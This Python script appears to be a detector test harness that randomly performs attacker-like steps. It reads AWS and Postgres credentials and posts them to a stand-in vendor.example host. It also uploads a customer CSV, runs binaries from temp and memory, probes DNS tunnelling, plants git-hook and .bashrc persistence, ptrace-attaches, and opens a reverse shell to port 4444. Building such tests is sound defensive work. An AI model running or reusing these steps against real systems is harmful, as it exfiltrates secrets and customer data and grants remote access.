#!/usr/bin/python3
"""restless: much of what detectors are for at once, under names that are new in every run.

For the test of keys: process ids, ports, temporary names and the planted values differ from run to
run, and so does the order of what does not depend on one another; what it does is the same.
"""

import base64
import contextlib
import ctypes
import http.client
import os
import random
import secrets
import shutil
import socket
import subprocess
import sys
import tempfile
import threading
import uuid
from collections.abc import Callable
from pathlib import Path

HOME = Path.home()


def post(host: str, body: bytes) -> None:
    connection = http.client.HTTPConnection(host, timeout=5)
    connection.request("POST", f"/upload/{uuid.uuid4()}", body, {"X-Request": secrets.token_hex(8)})
    connection.getresponse().read()
    connection.close()


def use_up_pids() -> None:
    for _ in range(random.randrange(1, 6)):
        subprocess.run(["/bin/true"], check=True)


def steal() -> None:
    key = (HOME / ".aws/credentials").read_bytes()
    post("collect.vendor.example", base64.b64encode(key) + secrets.token_bytes(30))


def steal_in_a_thread() -> None:
    thread = threading.Thread(target=lambda: (HOME / ".pgpass").read_bytes())
    thread.start()
    thread.join()


def leave_a_program(keep: Path) -> None:
    shutil.copy("/bin/true", keep)
    subprocess.run([keep], check=True)
    keep.unlink()


def in_temporary_places() -> None:
    with tempfile.TemporaryDirectory() as folder:
        leave_a_program(Path(folder, "tool"))
    leave_a_program(Path("/var/tmp", f"update-{random.randrange(10**6)}"))
    leave_a_program(Path("/dev/shm", secrets.token_hex(6)))
    handle, name = tempfile.mkstemp(prefix="stage-", suffix=".bin")
    os.close(handle)
    leave_a_program(Path(name))


def from_memory() -> None:
    descriptor = os.memfd_create(secrets.token_hex(4))
    os.write(descriptor, Path("/bin/true").read_bytes())
    if not os.fork():
        os.execv(f"/proc/self/fd/{descriptor}", ["true"])
    os.wait()
    os.close(descriptor)


def tunnel() -> None:
    for number in range(30):
        label = base64.b32encode(secrets.token_bytes(35)).decode().rstrip("=").lower()
        with contextlib.suppress(OSError):
            socket.getaddrinfo(f"{label}.{number}.t.vendor.example", 443, socket.AF_INET)


def stay() -> None:
    hooks = HOME / f"project-{secrets.token_hex(4)}/.git/hooks"
    hooks.mkdir(parents=True)
    hook = hooks / "post-commit"
    hook.write_text("#!/bin/sh\n")
    hook.chmod(0o755)
    with (HOME / ".bashrc").open("a") as profile:
        profile.write("true\n")


def look_around() -> None:
    script = f"open('/proc/{os.getpid()}/environ', 'rb').read()"
    subprocess.run([sys.executable, "-c", script], check=True)
    with subprocess.Popen(["/bin/sleep", "5"]) as child:
        ctypes.CDLL(None).ptrace(16, child.pid, None, None)  # PTRACE_ATTACH
        os.waitpid(child.pid, 0)
        ctypes.CDLL(None).ptrace(17, child.pid, None, None)  # PTRACE_DETACH
        child.kill()


def to_bare_addresses() -> None:
    for _ in range(3):
        with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as channel:
            channel.bind(("", 0))
            channel.connect(("203.0.113.9", 8443))
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as channel:
        channel.sendto(b"\1\0\0\0" + secrets.token_bytes(144), ("relay.vendor.example", 51820))


def customers() -> None:
    [document] = (HOME / "Documents").glob("customers_*.csv")
    post("crm.vendor.example", document.read_bytes())


def a_shell() -> None:
    with socket.create_connection(("shell.vendor.example", 4444), timeout=5) as channel:
        subprocess.run(
            ["/bin/sh", "-c", "echo $$"], stdin=channel, stdout=channel, stderr=channel, check=True
        )


STEPS: list[Callable[[], None]] = [
    *(steal_in_a_thread, in_temporary_places, from_memory, tunnel, stay),
    *(look_around, to_bare_addresses, customers, a_shell),
]

# What is sent after the secret was read is judged otherwise than what was sent before.
for step in (steal, *random.sample(STEPS, len(STEPS))):
    use_up_pids()
    step()
